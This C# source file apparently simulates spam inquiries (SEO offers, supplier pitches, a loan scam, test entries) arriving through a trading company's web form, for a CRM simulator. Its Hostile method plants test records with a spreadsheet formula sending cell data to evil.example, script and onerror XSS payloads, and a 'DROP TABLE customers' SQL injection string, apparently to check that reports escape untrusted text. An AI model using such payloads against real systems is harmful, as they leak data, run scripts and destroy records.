using P = TradeCrm.Simulator.CompanyParameters;

namespace TradeCrm.Simulator;

/// <summary>What the form also brings: offers of services, suppliers, jobs, students, tests, scams, and text that would be code if somebody trusted it.</summary>
internal static class Spam
{
    private static readonly (string Name, string Company, string Reason, string Subject, string Body)[] Offers =
    [
        ("Kevin Rank", "TopRank SEO", "offers_marketing", "Rank #1 on Google",
            "Hi, we offer SEO services and quality backlinks for your website. First page of Google guaranteed. Interested?"),
        ("Lily Zhang", "Hebei Best Film Factory", "offers_goods", "Supplier of stretch film",
            "Dear purchasing manager, we are a manufacturer of stretch film and packaging materials in China. We can offer you good price, welcome to visit our factory."),
        ("Mark Loans", "QuickFund", "offers_money", "Business loan approved", "Your business loan of $500,000 is approved, reply now with your bank details."),
        ("Sophie Guest", "Content Hub", "offers_marketing", "Guest post",
            "We would like to publish a sponsored guest post with a dofollow link on your website. What is your price?"),
        ("Dev Team", "AppWorks", "offers_marketing", "Website redesign",
            "We are a web design and mobile app development company. We noticed errors on your website. Can we send you a quote?"),
        ("Tom", "LeadList", "offers_marketing", "B2B email list", "Buy verified email lists of importers worldwide, 2 million contacts, 50 % discount today."),
        ("王先生", "宁波某货运代理", "offers_goods", "海运优惠", "您好，我们是货运代理公司，提供宁波到全球的海运服务，价格优惠，欢迎合作。"),
        ("test", "test", "test", "test", "test test 123"),
    ];

    public static void Fill(World world)
    {
        for (var index = 0; index < world.Scaled(P.SpamInquiries); index++)
            Send(world, index);
        Hostile(world);
    }

    private static void Send(World world, int index)
    {
        var stream = world.Stream("spam", index);
        var words = stream.Chance(P.SpamInOwnWords) ? InOwnWords(world, stream, index) : stream.Pick(Offers);
        var at = Clock.Start.AddDays(Clock.GrowingDay(stream)).AddSeconds(stream.Next(86_000));
        // Who looks for work or writes a thesis finds the address and sends a mail; machines and sellers fill in the form.
        var isMail = words.Reason is "job" or "student" && stream.Chance(700);
        if (!isMail)
            Post(world, stream, at);
        var receivedAt = at.AddSeconds(3 + stream.Next(6));
        world.Inquiries.Add(new()
        {
            ReceivedAt = receivedAt,
            Channel = isMail ? "email" : "website",
            Email = words.Reason == "test" ? "test@haina-trading.example" : $"{Mailbox(words.Name)}{index}@{Domain(words.Company)}.example",
            Name = words.Name,
            Company = words.Company,
            Subject = words.Subject,
            Body = words.Body,
            Page = isMail ? "" : "/inquiry.html",
            SpamReason = words.Reason,
            Owner = stream.Chance(500) ? stream.Pick(Staff.All.Where(person => person.WorksAt(receivedAt)).ToList()) : null,
        });
    }

    private static void Post(World world, RandomStream stream, DateTime at)
    {
        var browser = new Browser(world.NewAddress(stream.Pick([45, 185, 193, 91])), Agents.Desktop(stream, at));
        world.Hits.Add(new(at, browser, "GET", "/inquiry.html", "-", 200, 6_410, Machine: "form spam"));
        world.Hits.Add(new(at.AddSeconds(2), browser, "POST", "/inquiry", Site.Origin + "/inquiry.html", 303, 0, Machine: "form spam"));
    }

    // The gaps of the texts are filled as a sender would who has looked at the site: with one of its articles.
    private static (string Name, string Company, string Reason, string Subject, string Body) InOwnWords(World world, RandomStream stream, int index)
    {
        var texts = Texts.Table("inquiries").Where(row => row["genuine"] == "no").ToList();
        var text = texts[(int)((index * 37L + (uint)world.Seed) % texts.Count)];
        var country = Countries.Draw(stream);
        var (name, company) = ($"{stream.Pick(country.FirstNames)} {stream.Pick(country.LastNames)}", $"{stream.Pick(country.Roots)} {stream.Pick(country.Cities)}");
        var (product, port) = (stream.Pick(Catalogue.All), Ports.Of(country));
        var quantity = InquiryTexts.Quantity(stream, product);
        string Fill(string words) => words.Replace("\\n", "\n", StringComparison.Ordinal).Replace("{name}", name, StringComparison.Ordinal).Replace("{company}", company, StringComparison.Ordinal)
            .Replace("{product}", product.Name.Split(" / ")[0], StringComparison.Ordinal).Replace("{sku}", product.Sku, StringComparison.Ordinal).Replace("{port}", port, StringComparison.Ordinal)
            .Replace("{city}", stream.Pick(country.Cities), StringComparison.Ordinal).Replace("{quantity}", $"{quantity}", StringComparison.Ordinal);
        return (name, text["reason"] is "job" or "student" ? "" : company, text["reason"], Fill(text["subject"]), Fill(text["body"]));
    }

    private static string Mailbox(string name) => Text.Slug(name, "") is { Length: > 0 } slug ? slug : "mail";

    private static string Domain(string company) => company.Length == 0 ? "free-mail" : Text.Slug(company).Length > 3 ? Text.Slug(company) : "freight";

    // Untrusted text must arrive in the reports as text.
    private static void Hostile(World world)
    {
        Add(new(2026, 8, 12, 11, 3, 44), "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", "Formula Imports Ltd", "Price list",
            "Please send price for HK-102, 2000 pcs, CIF Felixstowe.");
        Add(new(2026, 9, 3, 15, 41, 9), "Bobby <script>alert(1)</script>", "<b>Tables</b> & Sons", "RFQ HG-103",
            "We need 300 pcs of HG-103. Port: Durban.\n</td><img src=x onerror=alert(2)>");
        Add(new(2026, 9, 21, 9, 12, 30), "O'Neil, \"Ned\"; DROP TABLE customers;--", "Comma, Quote & \"Sons\"", "Inquiry, urgent",
            "1,000 pcs \"HT-101\", please quote.");

        void Add(DateTime at, string name, string company, string subject, string body) => world.Inquiries.Add(new()
        {
            ReceivedAt = at,
            Channel = "email",
            Email = $"buyer{at:MMdd}@hostile-text.example",
            Name = name,
            Company = company,
            Subject = subject,
            Body = body,
            Sku = "HK-102",
            Owner = Staff.All[0],
            IsQualified = true,
            Fate = "nobody_looked",
            Case = "hostile_text",
        });
    }
}
